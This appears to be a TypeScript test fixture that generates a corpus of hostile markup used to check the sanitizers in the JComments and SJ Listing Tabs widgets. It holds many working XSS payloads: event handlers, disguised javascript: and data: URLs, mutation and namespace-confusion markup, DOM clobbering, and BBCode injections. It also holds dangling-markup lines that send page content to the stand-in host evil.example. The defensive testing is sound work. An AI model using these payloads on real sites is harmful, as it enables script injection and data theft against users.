/**
 * The hostile corpus: markup an attacker could get into anything the
 * JComments or SJ Listing Tabs servers print (a comment, a title, a plugin's
 * output, a listing item), one shape per entry, each with a canary of its
 * own: if it ever ran, `window.__pwned` would hold the shape's name, and a
 * request it made would carry that name too. `note` says what the widgets do
 * with it, for the demo's hostile page.
 */
export interface HostileShape {
  readonly name: string
  readonly family: HostileFamily
  readonly html: string
  readonly note: string
}

export type HostileFamily =
  | 'handler'
  | 'url'
  | 'namespace'
  | 'mutation'
  | 'clobbering'
  | 'dangling'
  | 'bbcode'
  | 'element'

/** The code a shape would run: it names the shape. */
export const canary = (name: string) => `window.__pwned='${name}'`

/**
 * Where a shape's request would go: a host no page of the demo talks to, so
 * a browser test can tell that nothing reached it.
 */
export const foreignHost = 'evil.example'

// Tags and the handler each would fire on its own or at the first touch.
const handlerShapes: readonly (readonly [tag: string, handler: string, markup: string])[] = [
  ['img', 'onerror', '<img src=x {h}>'],
  ['img', 'onload', '<img src="/images/logo.svg" {h}>'],
  ['image', 'onerror', '<image src=x {h}>'],
  ['svg', 'onload', '<svg {h}></svg>'],
  ['body', 'onload', '<body {h}>'],
  ['body', 'onpageshow', '<body {h}>'],
  ['details', 'ontoggle', '<details open {h}><summary>s</summary></details>'],
  ['video', 'onerror', '<video src=x {h}></video>'],
  ['video-source', 'onerror', '<video><source src=x {h}></video>'],
  ['audio', 'onerror', '<audio src=x {h}></audio>'],
  ['input', 'onfocus', '<input autofocus {h}>'],
  ['input-image', 'onerror', '<input type=image src=x {h}>'],
  ['select', 'onfocus', '<select autofocus {h}></select>'],
  ['textarea', 'onfocus', '<textarea autofocus {h}></textarea>'],
  ['button', 'onfocus', '<button autofocus {h}>b</button>'],
  ['keygen', 'onfocus', '<keygen autofocus {h}>'],
  ['a', 'onclick', '<a href="#" {h}>click</a>'],
  ['a', 'onmouseover', '<a href="#" {h}>hover</a>'],
  ['div', 'onpointerenter', '<div {h}>pointer</div>'],
  ['span', 'onanimationstart', '<span {h}>animation</span>'],
  ['p', 'ontransitionend', '<p {h}>transition</p>'],
  ['marquee', 'onstart', '<marquee {h}>m</marquee>'],
  ['object', 'onerror', '<object data=x {h}></object>'],
  ['embed', 'onload', '<embed src=x {h}>'],
  ['iframe', 'onload', '<iframe {h}></iframe>'],
  ['frameset', 'onload', '<frameset {h}>'],
  ['form', 'onsubmit', '<form {h}><button>go</button></form>'],
  ['table', 'onclick', '<table {h}><tr><td>t</td></tr></table>'],
  ['td', 'onmouseover', '<table><tr><td {h}>t</td></tr></table>'],
  ['style', 'onload', '<style {h}></style>'],
  ['link', 'onload', '<link rel=stylesheet href="/x.css" {h}>'],
  ['script', 'onerror', '<script src=x {h}></script>'],
  ['track', 'onerror', '<video><track src=x {h}></video>'],
  ['picture', 'onerror', '<picture><img src=x {h}></picture>'],
  ['b', 'onauxclick', '<b {h}>auxclick</b>'],
  ['blockquote', 'onfocusin', '<blockquote tabindex=0 {h}>focus in</blockquote>'],
  ['svg-animate', 'onbegin', '<svg><animate attributeName=x dur=1s {h}></animate></svg>'],
  ['svg-set', 'onbegin', '<svg><set attributeName=x to=1 {h}></set></svg>'],
  ['math', 'onclick', '<math {h}><mi>x</mi></math>'],
  ['img', 'ONERROR', '<img src=x {h}>'],
]

const handlerQuotes: readonly (readonly [name: string, write: (code: string) => string])[] = [
  ['double', (code) => `"${code}"`],
  ['single', (code) => `'${code.replaceAll("'", '"')}'`],
  ['unquoted', (code) => code.replaceAll(' ', '')],
]

// Script-capable schemes in every disguise a parser or a browser undoes.
const schemes: readonly (readonly [name: string, scheme: (code: string) => string])[] = [
  ['javascript', (code) => `javascript:${code}`],
  ['vbscript', (code) => `vbscript:${code}`],
  ['data-html', (code) => `data:text/html,<script>${code}</script>`],
  ['data-svg', (code) => `data:image/svg+xml,${encodeURIComponent(`<svg onload="${code}"/>`)}`],
  ['data-js', (code) => `data:text/javascript,${code}`],
]

const disguises: readonly (readonly [name: string, disguise: (url: string) => string])[] = [
  ['plain', (url) => url],
  ['upper', (url) => url.replace(/^[a-z]+/, (scheme) => scheme.toUpperCase())],
  [
    'mixed',
    (url) => url.replace(/^([a-z])([a-z])/, (_, a: string, b: string) => a.toUpperCase() + b),
  ],
  ['space', (url) => ` \t${url}`],
  ['tab', (url) => url.replace(/^([a-z]{2})/, '$1&#x09;')],
  ['newline', (url) => url.replace(/^([a-z]{3})/, '$1&#10;')],
  ['control', (url) => `&#x01;${url}`],
  ['decimal', (url) => `&#${url.charCodeAt(0)};${url.slice(1)}`],
  ['hex-padded', (url) => `&#x0000${url.charCodeAt(0).toString(16)};${url.slice(1)}`],
  ['colon-entity', (url) => url.replace(':', '&colon;')],
]

const urlCarriers: readonly (readonly [name: string, markup: (url: string) => string])[] = [
  ['a-href', (url) => `<a href="${url}">a link</a>`],
  ['img-src', (url) => `<img src="${url}" alt="an image">`],
  ['blockquote-cite', (url) => `<blockquote cite="${url}">a quote</blockquote>`],
  ['iframe-src', (url) => `<iframe src="${url}"></iframe>`],
  ['form-action', (url) => `<form action="${url}"><button>send</button></form>`],
  ['button-formaction', (url) => `<button formaction="${url}">send</button>`],
  ['object-data', (url) => `<object data="${url}"></object>`],
  ['embed-src', (url) => `<embed src="${url}">`],
  ['svg-a-xlink', (url) => `<svg><a xlink:href="${url}"><text>t</text></a></svg>`],
  ['math-href', (url) => `<math href="${url}"><mi>x</mi></math>`],
  ['area-href', (url) => `<map name="m"><area href="${url}" shape="default"></map>`],
  ['base-href', (url) => `<base href="${url}">`],
  ['meta-refresh', (url) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ['img-srcset', (url) => `<img srcset="${url} 1x" alt="a set">`],
]

// Namespace confusion and mutation XSS: markup that changes meaning when a
// sanitizer's output is parsed again.
const mutations: readonly (readonly [
  name: string,
  family: HostileFamily,
  html: (code: string) => string,
])[] = [
  [
    'math-mglyph-style',
    'namespace',
    (c) =>
      `<math><mtext><table><mglyph><style><img src=x onerror="${c}"></style></mglyph></table></mtext></math>`,
  ],
  [
    'form-math-mglyph',
    'namespace',
    (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${c}">`,
  ],
  ['svg-style-img', 'namespace', (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`],
  [
    'svg-foreignobject',
    'namespace',
    (c) => `<svg><foreignObject><img src=x onerror="${c}"></foreignObject></svg>`,
  ],
  ['svg-desc-img', 'namespace', (c) => `<svg><desc><img src=x onerror="${c}"></desc></svg>`],
  [
    'svg-title-p',
    'namespace',
    (c) =>
      `<svg></p><title><a id="</title><img src=x onerror=${c.replaceAll(' ', '')}>"></a></title></svg>`,
  ],
  [
    'math-mi-mglyph-svg',
    'namespace',
    (c) =>
      `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${c.replaceAll("'", '"')}' src=1>">`,
  ],
  [
    'math-annotation-xml',
    'namespace',
    (c) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${c}"></annotation-xml></math>`,
  ],
  ['svg-script', 'namespace', (c) => `<svg><script>${c}</script></svg>`],
  ['svg-script-href', 'namespace', (c) => `<svg><script href="data:,${c}"></script></svg>`],
  [
    'svg-use-data',
    'namespace',
    (c) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c.replaceAll("'", '"')}'/></svg>#x"></use></svg>`,
  ],
  [
    'noscript-title',
    'mutation',
    (c) => `<noscript><p title="</noscript><img src=x onerror=${c.replaceAll(' ', '')}>">`,
  ],
  ['template-img', 'mutation', (c) => `<template><img src=x onerror="${c}"></template>`],
  [
    'textarea-close',
    'mutation',
    (c) => `<textarea></textarea><img src=x onerror="${c}"></textarea>`,
  ],
  ['title-close', 'mutation', (c) => `<title><img src=x onerror="${c}"></title>`],
  ['xmp-close', 'mutation', (c) => `<xmp></xmp><img src=x onerror="${c}"></xmp>`],
  ['comment-bang', 'mutation', (c) => `<!--><img src=x onerror="${c}">-->`],
  ['comment-in-attribute', 'mutation', (c) => `<a title="<!--"><img src=x onerror="${c}">--></a>`],
  ['cdata', 'mutation', (c) => `<![CDATA[><img src=x onerror="${c}">]]>`],
  ['processing-instruction', 'mutation', (c) => `<?xml ><img src=x onerror="${c}">?>`],
  ['slash-separator', 'mutation', (c) => `<img/src=x/onerror="${c}">`],
  ['nul-in-tag', 'mutation', (c) => `<img src=x o\u0000nerror="${c}">`],
  ['double-open', 'mutation', (c) => `<<img src=x onerror="${c}">`],
  ['attribute-newline', 'mutation', (c) => `<img src=x\nonerror="${c}">`],
  ['handler-entity', 'mutation', (c) => `<img src=x onerror="${c.replaceAll("'", '&#39;')}">`],
  [
    'renamed-marker',
    'mutation',
    (c) => `<a href="#" data-inline-onclick="${c}" data-inline="1">a</a>`,
  ],
  [
    'known-call-then-code',
    'mutation',
    (c) => `<a href="#" onclick="jcomments.voteComment(1, 1);${c}">vote</a>`,
  ],
  [
    'known-call-comment-break',
    'mutation',
    (c) => `<a href="#" onclick="jcomments.showPage(44,'com_content',1);//\u2028${c}">page</a>`,
  ],
  [
    'style-expression',
    'element',
    (c) => `<div style="background:url(javascript:${c})">style</div>`,
  ],
  ['style-element', 'element', (c) => `<style>@import 'javascript:${c}';</style>`],
  ['script-plain', 'element', (c) => `<script>${c}</script>`],
  [
    'script-src',
    'element',
    (c) => `<script src="https://${foreignHost}/${encodeURIComponent(c)}.js"></script>`,
  ],
  [
    'iframe-srcdoc',
    'element',
    (c) => `<iframe srcdoc="<script>parent.${c.replace('window.', '')}</script>"></iframe>`,
  ],
  [
    'object-html',
    'element',
    (c) => `<object type="text/html" data="data:text/html,<script>${c}</script>"></object>`,
  ],
  [
    'embed-svg',
    'element',
    (c) =>
      `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${c.replaceAll("'", '"')}'/>">`,
  ],
  [
    'link-import',
    'element',
    (c) => `<link rel="import" href="data:text/html,<script>${c}</script>">`,
  ],
  [
    'custom-element',
    'element',
    (c) => `<jc-comments object-id="1" onclick="${c}">nested</jc-comments>`,
  ],
  [
    'popover-target',
    'element',
    (c) => `<button popovertarget="p" onclick="${c}">p</button><div popover id="p">p</div>`,
  ],
]

// Markup that takes over names the page or the widgets read.
const clobberings: readonly (readonly [name: string, html: (name: string) => string])[] = [
  [
    'current-script',
    (n) =>
      `<img name="currentScript" src="/images/logo.svg" alt="${n}"><a id="location" href="#${n}">l</a>`,
  ],
  ['default-view', (n) => `<img name="defaultView" src="/images/logo.svg" alt="${n}">`],
  ['create-element', (n) => `<img name="createElement" src="/images/logo.svg" alt="${n}">`],
  ['dispatch-event', (n) => `<img name="dispatchEvent" src="/images/logo.svg" alt="${n}">`],
  ['document-body', (n) => `<img name="body" src="/images/logo.svg" alt="${n}">`],
  ['document-element', (n) => `<img name="documentElement" src="/images/logo.svg" alt="${n}">`],
  ['get-element-by-id', (n) => `<img name="getElementById" src="/images/logo.svg" alt="${n}">`],
  ['query-selector', (n) => `<form name="querySelector"><input name="${n}"></form>`],
  ['document-forms', (n) => `<form name="forms"><input name="${n}"></form>`],
  ['document-cookie', (n) => `<img name="cookie" src="/images/logo.svg" alt="${n}">`],
  ['active-element', (n) => `<img name="activeElement" src="/images/logo.svg" alt="${n}">`],
  ['window-jcomments', (n) => `<a id="jcomments" href="#${n}">jcomments</a>`],
  [
    'window-trusted-types',
    (n) =>
      `<a id="trustedTypes" href="#${n}">tt</a><a id="trustedTypes" name="createPolicy">tt</a>`,
  ],
  [
    'form-elements',
    (n) =>
      `<form id="comments-form"><input name="elements" value="${n}"><input name="object_id" value="666"></form>`,
  ],
  [
    'copied-form-link',
    (n) => `<div id="comments-form-link"><a id="addcomments" href="#${n}">Add comment</a></div>`,
  ],
  [
    'copied-form',
    (n) =>
      `<form id="comments-form" name="comments-form"><textarea name="comment">${n}</textarea><input type="hidden" name="object_id" value="666"><input type="hidden" name="object_group" value="com_users"></form>`,
  ],
  [
    'copied-ids',
    (n) =>
      `<span id="comments-list-0">${n}</span><span id="comment-item-81">${n}</span><span id="comments-footer">${n}</span>`,
  ],
  ['copied-nav', (n) => `<div id="nav-top"><span class="activepage">${n}</span></div>`],
]

// An unclosed quote that swallows the markup after it into an address.
const danglings: readonly (readonly [name: string, html: (name: string) => string])[] = [
  ['img-src-unclosed', (n) => `<img src="https://${foreignHost}/${n}?`],
  ['img-src-newline', (n) => `<img alt="d" src="https://${foreignHost}/${n}?\n<p>secret</p>">`],
  ['img-src-less-than', (n) => `<img alt="d" src="https://${foreignHost}/${n}?<b>secret</b>">`],
  ['a-href-unclosed', (n) => `<a href="https://${foreignHost}/${n}?<p>secret</p>">l</a>`],
  ['base-target', (n) => `<base target="${n}<p>secret</p>">`],
  [
    'meta-refresh-unclosed',
    (n) => `<meta http-equiv="refresh" content='0;url=https://${foreignHost}/${n}?`,
  ],
  [
    'form-action-foreign',
    (n) => `<form action="https://${foreignHost}/${n}"><button>send</button></form>`,
  ],
  [
    'button-formaction-foreign',
    (n) => `<button form="comments-form" formaction="https://${foreignHost}/${n}">send</button>`,
  ],
  ['link-prefetch', (n) => `<link rel="prefetch" href="https://${foreignHost}/${n}">`],
  ['img-ping', (n) => `<a href="/x" ping="https://${foreignHost}/${n}">ping</a>`],
  ['textarea-unclosed', (n) => `<textarea>${n}`],
]

// What a commenter types: the server turns BBCode into markup before it stores it.
const bbcodes: readonly (readonly [name: string, html: (code: string) => string])[] = [
  ['url-javascript', (c) => `[url=javascript:${c}]link[/url]`],
  ['url-entity', (c) => `[url=&#106;avascript:${c}]link[/url]`],
  ['url-data', (c) => `[url=data:text/html,<script>${c}</script>]link[/url]`],
  ['url-quote-breakout', (c) => `[url="onmouseover="${c}"]link[/url]`],
  ['url-body', (c) => `[url]javascript:${c}[/url]`],
  ['img-javascript', (c) => `[img]javascript:${c}[/img]`],
  ['img-data-svg', (c) => `[img]data:image/svg+xml,<svg onload="${c}"/>[/img]`],
  ['img-breakout', (c) => `[img]x" onerror="${c}[/img]`],
  ['quote-name', (c) => `[quote name="<img src=x onerror='${c.replaceAll("'", '"')}'>"]q[/quote]`],
  ['code-markup', (c) => `[code]<img src=x onerror="${c}">[/code]`],
  ['nested-url-img', (c) => `[url=javascript:${c}][img]/images/logo.svg[/img][/url]`],
]

function shapesOf(): HostileShape[] {
  const shapes: HostileShape[] = []
  for (const [tag, handler, markup] of handlerShapes) {
    for (const [quoting, write] of handlerQuotes) {
      // Every tag once with double quotes; the other quotings on the common ones.
      if (quoting !== 'double' && !['img', 'svg', 'a', 'details'].includes(tag)) continue
      const name = `handler-${tag}-${handler.toLowerCase()}-${quoting}${handler === 'ONERROR' ? '-upper' : ''}`
      shapes.push({
        name,
        family: 'handler',
        html: markup.replace('{h}', `${handler}=${write(canary(name))}`),
        note: 'The handler is renamed before any parser sees it, then removed (a known JComments call becomes a typed action); elements no allow-list keeps go with their content.',
      })
    }
  }
  for (const [scheme, write] of schemes) {
    for (const [disguise, hide] of disguises) {
      for (const [carrier, carry] of urlCarriers) {
        // Each scheme in each disguise on a link; every carrier with the plain and the entity disguise.
        if (carrier !== 'a-href' && !['plain', 'decimal'].includes(disguise)) continue
        if (carrier !== 'a-href' && !['javascript', 'data-svg'].includes(scheme)) continue
        const name = `url-${scheme}-${disguise}-${carrier}`
        shapes.push({
          name,
          family: 'url',
          html: carry(hide(write(canary(name)))),
          note:
            carrier === 'a-href'
              ? 'The one address check refuses it (only http:, https:, mailto: and relative addresses), and the link shows as its text.'
              : 'The address is refused, or the element or attribute is not on the allow-list and goes.',
        })
      }
    }
  }
  for (const [shape, family, write] of mutations) {
    const name = `${family}-${shape}`
    shapes.push({
      name,
      family,
      html: write(canary(name)),
      note: ['svg-title-p', 'math-mi-mglyph-svg'].includes(shape)
        ? 'An HTML end tag ends the foreign content, so what reads as an attribute value holding a tag is text ended by a real one; the pre-pass writes every < inside a tag as &lt;, so the parser finds only text there. Parsed once, never parsed again.'
        : 'Parsed once, into inert nodes that are moved, never re-serialized and parsed again: no SVG, MathML, template, noscript, style or script survives, and handlers go.',
    })
  }
  for (const [shape, write] of clobberings) {
    const name = `clobbering-${shape}`
    shapes.push({
      name,
      family: 'clobbering',
      html: `${write(name)}<img src=x onerror="${canary(name)}">`,
      note: "In an answer, the boundary drops an id or a name that would shadow a property of the document or of a form. Printed in the page, where no widget sanitized it first, a name hiding defaultView is taken away before the first widget renders, with a console line; the widgets read the document through its prototype, dispatch their events with EventTarget's own dispatchEvent, and find their own controls by what they rendered, never by a global id.",
    })
  }
  for (const [shape, write] of danglings) {
    const name = `dangling-${shape}`
    shapes.push({
      name,
      family: 'dangling',
      html: write(name),
      note: 'An address holding a < or a line break is refused; forms, bases, metas and links go; no request leaves for another host.',
    })
  }
  for (const [shape, write] of bbcodes) {
    const name = `bbcode-${shape}`
    shapes.push({
      name,
      family: 'bbcode',
      html: write(canary(name)),
      note: 'The preview renders BBCode as React elements through the one address check; the server’s rendering passes the sanitizer like any comment.',
    })
  }
  return shapes
}

// An address that is no image: its error event is certain, and no 404 is logged.
const noImage = (shape: HostileShape): HostileShape => ({
  ...shape,
  html: shape.html.replace(/src=x(?=[\s/>])/g, 'src=/en/hostile.html'),
})

export const hostileCorpus: readonly HostileShape[] = shapesOf().map(noImage)
